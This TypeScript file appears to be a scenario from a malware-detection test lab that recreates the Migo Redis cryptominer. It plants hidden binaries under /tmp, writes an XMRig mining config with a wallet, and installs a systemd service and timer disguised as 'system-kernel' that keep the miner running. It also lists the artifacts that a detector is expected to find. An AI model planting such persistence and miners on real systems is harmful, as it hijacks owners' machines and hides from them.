import type { Scenario } from '../types.js';
import { installBinary, installEnabled, processArtifact, startProcess, stratum, writeFile, WALLET } from '../kit.js';
import { respawnCommand } from '../ddg.js';

// Modelled on: Cado Security, "Migo – a Redis Miner with Novel System Weakening Techniques"
// (2024), https://www.cadosecurity.com/blog/migo-a-redis-miner-with-novel-system-weakening-techniques,
// as summarised in "New Migo Malware Targeting Redis Servers for Cryptocurrency Mining",
// https://printhouse.cloud/new-migo-malware-targeting-redis-servers-for-cryptocurrency-mining
// (Redis access, a Go binary in /tmp, XMRig unpacked into a hidden /tmp directory, a systemd
// service and a timer that keeps it running, a dormant XMRig config next to it).
const MIGO = '/tmp/.migo';
const DIR = '/tmp/.migo_worker';
const MINER = `${DIR}/.migo_worker`;
const SERVICE = '/etc/systemd/system/system-kernel.service';
const TIMER = '/etc/systemd/system/system-kernel.timer';

export const migo: Scenario = {
  name: 'migo',
  plan: (ctx) => {
    const minerArgv = [MINER, '--config', `${DIR}/config.json`, '-o', stratum(ctx.pool, 3333)];
    const env = { MS_LAB_CHILD: respawnCommand(ctx.http, 'migo', MINER, minerArgv) };
    const service = ['[Unit]', 'Description=System kernel daemon', '', '[Service]', `ExecStart=${MIGO}`, 'Restart=always', '', '[Install]', 'WantedBy=multi-user.target', ''].join('\n');
    const timer = ['[Unit]', 'Description=System kernel daemon timer', '', '[Timer]', 'OnBootSec=5min', 'OnUnitActiveSec=5min', 'Unit=system-kernel.service', '', '[Install]', 'WantedBy=timers.target', ''].join('\n');
    const config = JSON.stringify({ autosave: false, 'donate-level': 0, cpu: { enabled: true }, pools: [{ url: `${ctx.pool}:3333`, user: WALLET, pass: 'x', keepalive: true }] }, null, 2);
    return {
      family: 'migo',
      plant: [
        installBinary('migo', MIGO),
        installBinary('migo', MINER),
        writeFile(`${DIR}/config.json`, config),
        ...installEnabled(SERVICE, 'system-kernel.service', service),
        ...installEnabled(TIMER, 'system-kernel.timer', timer, 'timers.target'),
      ],
      start: [startProcess([MIGO], env)],
      artifacts: [
        processArtifact([MIGO], 'migo', ctx.sha256('migo'), 'watchdog'),
        processArtifact(minerArgv, 'migo', ctx.sha256('migo'), 'miner', `${ctx.pool}:3333`),
        { kind: 'unit', path: SERVICE, name: 'system-kernel.service' },
        { kind: 'unit', path: TIMER, name: 'system-kernel.timer' },
        { kind: 'file', path: `${DIR}/config.json` },
      ],
      expectFindings: true,
      respawnSeconds: 5,
      binaries: ['migo'],
      sources: [
        { url: 'https://www.cadosecurity.com/blog/migo-a-redis-miner-with-novel-system-weakening-techniques', title: 'Migo – a Redis Miner with Novel System Weakening Techniques (Cado Security)' },
        { url: 'https://printhouse.cloud/new-migo-malware-targeting-redis-servers-for-cryptocurrency-mining', title: 'New Migo Malware Targeting Redis Servers for Cryptocurrency Mining' },
      ],
    };
  },
};
